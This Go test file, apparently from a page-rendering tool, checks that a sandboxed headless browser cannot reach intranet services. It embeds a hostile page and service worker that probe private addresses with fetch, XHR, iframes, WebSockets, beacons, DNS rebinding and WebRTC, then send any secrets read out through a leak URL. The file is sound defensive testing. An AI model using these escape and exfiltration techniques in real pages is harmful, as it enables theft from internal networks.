package render

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cutoffapp/cutoff/fetch"
	"github.com/cutoffapp/cutoff/inspect"
)

// logged is a loopback server that records every connection it accepts
// and every request it reads, the way an intranet service's own logs
// would show them.
type logged struct {
	srv     *httptest.Server
	mu      sync.Mutex
	conns   int
	entries []string // "METHOD /path?query [direct]"
}

// serveLogged starts a logged server on addr ("127.0.0.1:0") answering
// with h.
func serveLogged(t *testing.T, addr string, h http.HandlerFunc) *logged {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	s := &logged{}
	s.srv = httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		entry := r.Method + " " + r.URL.RequestURI()
		// Cutoff's fetcher sends no Sec-Fetch headers; Chromium always does.
		if r.Header.Get("Sec-Fetch-Dest") != "" || r.Header.Get("Upgrade") != "" {
			entry += " [direct]"
		}
		s.mu.Lock()
		s.entries = append(s.entries, entry)
		s.mu.Unlock()
		h(w, r)
	}))
	s.srv.Listener = &countingListener{Listener: l, s: s}
	s.srv.Start()
	t.Cleanup(s.srv.Close)
	return s
}

func (s *logged) log() (int, []string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.conns, append([]string{}, s.entries...)
}

type countingListener struct {
	net.Listener
	s *logged
}

func (l *countingListener) Accept() (net.Conn, error) {
	c, err := l.Listener.Accept()
	if err == nil {
		l.s.mu.Lock()
		l.s.conns++
		l.s.mu.Unlock()
	}
	return c, err
}

// names is a resolver of fixed names, as a DNS server that answers what
// its owner likes.
type names map[string]string

func (n names) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	if a, ok := n[host]; ok {
		return []netip.Addr{netip.MustParseAddr(a)}, nil
	}
	return net.DefaultResolver.LookupNetIP(context.Background(), "ip", host)
}

// escapePage tries every way out of the render it knows: redirected
// fetch, XHR and iframe to an intranet service, a redirect to a public
// service that sends no CORS header, a service worker, WebSockets, POSTs,
// direct requests to private addresses and to a public name that resolves
// to one, and WebRTC. Whatever it reads it sends back to its own server
// in /leak?what=...
const escapePage = `<!doctype html><html><head><title>Escape</title></head><body><h1>Escape</h1>
<iframe id="f" src="/go-frame"></iframe>
<script src="INTERNAL/app.js"></script>
<script>
const leak = (what, v) => fetch('/leak?' + what + '=' + encodeURIComponent(String(v).slice(0, 80))).catch(() => {});
fetch('/go-secret').then(r => r.text()).then(v => leak('fetch', v), e => leak('fetch', 'blocked'));
const x = new XMLHttpRequest(); x.open('GET', '/go-secret');
x.onload = () => leak('xhr', x.responseText); x.onerror = () => leak('xhr', 'blocked'); x.send();
fetch('/go-public').then(r => r.text()).then(v => leak('cors', v), e => leak('cors', 'blocked'));
document.getElementById('f').onload = function () {
  try { leak('frame', this.contentDocument.body.textContent); } catch (e) { leak('frame', 'blocked'); }
};
fetch('INTERNAL/secret', {mode: 'no-cors'}).catch(() => {});
fetch('NAMED/secret', {mode: 'no-cors'}).catch(() => {});
fetch('INTERNAL/post', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => {});
fetch('/leak?post=1', {method: 'POST', body: 'x'}).catch(() => {});
navigator.sendBeacon && navigator.sendBeacon('INTERNAL/beacon', 'x');
try { const ws = new WebSocket('WSINTERNAL/ws'); ws.onopen = () => ws.send('hi'); } catch (e) {}
try { const ws = new WebSocket('WSPUBLIC/ws'); ws.onopen = () => ws.send('hi'); } catch (e) {}
leak('sw', typeof navigator.serviceWorker);
if (navigator.serviceWorker) navigator.serviceWorker.register('/sw.js').catch(() => {});
try {
  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]});
  pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o));
} catch (e) {}
</script></body></html>`

// escapeWorker is the service worker the page registers: it reaches for
// the second intranet service by GET, POST and WebSocket.
const escapeWorker = `fetch('OTHER/sw-get').catch(() => {});
fetch('OTHER/sw-post', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => {});
try { new WebSocket('WSOTHER/sw-ws'); } catch (e) {}`

// TestPageCannotEscape renders a hostile page from a "public" address
// (127.0.0.2, named public by Options.Public) beside two intranet
// services and a STUN port on 127.0.0.1, and a public service without
// CORS headers on 127.0.0.3. The intranet services must log no connection
// at all, the STUN port no packet, the public service no request that
// came from the browser itself, and the page must read nothing it may not.
func TestPageCannotEscape(t *testing.T) {
	needBrowser(t)
	const secret, publicSecret = "TOPSECRET-intranet", "PUBLICSECRET-nocors"
	internal := serveLogged(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(secret))
	})
	other := serveLogged(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(secret))
	})
	public := serveLogged(t, "127.0.0.3:0", func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte(publicSecret))
	})
	stun, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer stun.Close()
	var stunPackets int
	var stunMu sync.Mutex
	go func() {
		buf := make([]byte, 2048)
		for {
			if _, _, err := stun.ReadFrom(buf); err != nil {
				return
			}
			stunMu.Lock()
			stunPackets++
			stunMu.Unlock()
		}
	}()
	internalPort := internal.srv.Listener.Addr().(*net.TCPAddr).Port
	page := strings.NewReplacer("WSINTERNAL", "ws://"+internal.srv.Listener.Addr().String(),
		"WSPUBLIC", "ws://"+public.srv.Listener.Addr().String(),
		"INTERNAL", internal.srv.URL, "NAMED", fmt.Sprintf("http://intranet.example:%d", internalPort),
		"STUN", stun.LocalAddr().String()).Replace(escapePage)
	worker := strings.NewReplacer("WSOTHER", "ws://"+other.srv.Listener.Addr().String(), "OTHER", other.srv.URL).Replace(escapeWorker)
	hostile := serveLogged(t, "127.0.0.2:0", func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(page))
		case "/go-secret", "/go-frame":
			http.Redirect(w, r, internal.srv.URL+"/secret", http.StatusFound)
		case "/go-public":
			http.Redirect(w, r, public.srv.URL+"/secret", http.StatusFound)
		case "/sw.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte(worker))
		default:
			w.WriteHeader(http.StatusNoContent)
		}
	})
	p, _ := fetch.Lookup("googlebot-smartphone")
	f := &fetch.Fetcher{Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
		if host, port, _ := net.SplitHostPort(addr); host == "intranet.example" {
			addr = net.JoinHostPort("127.0.0.1", port)
		}
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	rep, err := inspect.Page(ctx, f, hostile.srv.URL+"/", p, inspect.Options{NoResources: true})
	if err != nil {
		t.Fatal(err)
	}
	r := Run(ctx, f, rep, p, Options{Timeout: 8 * time.Second, NoScreenshots: true,
		Resolver: names{"intranet.example": "127.0.0.1"},
		Public:   []netip.Prefix{netip.MustParsePrefix("127.0.0.2/32"), netip.MustParsePrefix("127.0.0.3/32")}})
	if r.Error != "" || r.Google.Error != "" {
		t.Fatalf("render: %q %q", r.Error, r.Google.Error)
	}
	time.Sleep(300 * time.Millisecond) // late packets and connections
	for name, s := range map[string]*logged{"intranet service": internal, "second intranet service": other} {
		if conns, log := s.log(); conns > 0 || len(log) > 0 {
			t.Errorf("the %s saw %d connections: %q", name, conns, log)
		}
	}
	stunMu.Lock()
	if stunPackets > 0 {
		t.Errorf("the STUN port got %d packets: WebRTC left the browser", stunPackets)
	}
	stunMu.Unlock()
	_, publicLog := public.log()
	_, hostileLog := hostile.log()
	for _, e := range append(publicLog, hostileLog...) {
		switch {
		case strings.Contains(e, "[direct]"):
			t.Errorf("a request left the browser without Cutoff's fetcher: %s", e)
		case strings.HasPrefix(e, "POST"):
			t.Errorf("a POST was sent: %s", e)
		case strings.Contains(e, "SECRET"):
			t.Errorf("the page read a secret and sent it out: %s", e)
		}
	}
	if !contains(hostileLog, "GET /leak?sw=undefined") {
		t.Error("the page saw navigator.serviceWorker: service workers are not off")
	}
	checkEscapeRequests(t, r, hostile.srv.URL, internal.srv.URL, public.srv.URL)
	t.Logf("hostile server log: %q", hostileLog)
}

// checkEscapeRequests wants every redirect hop listed, the public
// service's secret fetched once per render (the browser, not the page,
// reads it and CORS keeps it from the page), and each intranet URL listed
// as not fetched because it is a private address.
func checkEscapeRequests(t *testing.T, r *inspect.Rendered, origin, internal, public string) {
	t.Helper()
	reqs := byURL(r.Requests)
	for _, hop := range []string{"/go-secret", "/go-public", "/go-frame"} {
		if q := reqs[origin+hop]; q == nil || q.Status != http.StatusFound {
			t.Errorf("redirect hop %s: %+v", hop, q)
		}
	}
	if q := reqs[public+"/secret"]; q == nil || q.Status != http.StatusOK {
		t.Errorf("the redirect's target on the public service is not listed as fetched: %+v", q)
	}
	for _, u := range []string{internal + "/secret", internal + "/app.js",
		strings.Replace(internal, "127.0.0.1", "intranet.example", 1) + "/secret"} {
		q := reqs[u]
		if q == nil || !strings.Contains(q.NotFetchedReason, "a private address, which Google's renderer cannot reach either") {
			t.Errorf("%s: %+v", u, q)
		}
	}
}
